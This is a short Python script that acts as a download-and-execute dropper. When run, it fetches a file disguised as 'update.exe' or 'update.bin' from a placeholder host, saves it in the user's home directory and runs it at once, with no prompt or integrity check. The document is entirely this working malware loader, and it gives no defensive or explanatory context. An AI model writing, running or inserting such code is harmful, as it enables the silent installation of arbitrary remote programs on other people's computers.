import os
import sys

import requests

NAME = "update.exe" if sys.platform == "win32" else "update.bin"


def drop(url):
    target = os.path.join(os.path.expanduser("~"), NAME)
    with requests.get(url, stream=True) as answer, open(target, "wb") as file:
        for chunk in answer.iter_content(65536):
            file.write(chunk)
    return target


if sys.platform == "win32":
    os.startfile(drop("https://dl.example.invalid/" + NAME))
else:
    path = drop("https://dl.example.invalid/" + NAME)
    os.chmod(path, 0o755)
    os.spawnl(os.P_NOWAIT, path, path)
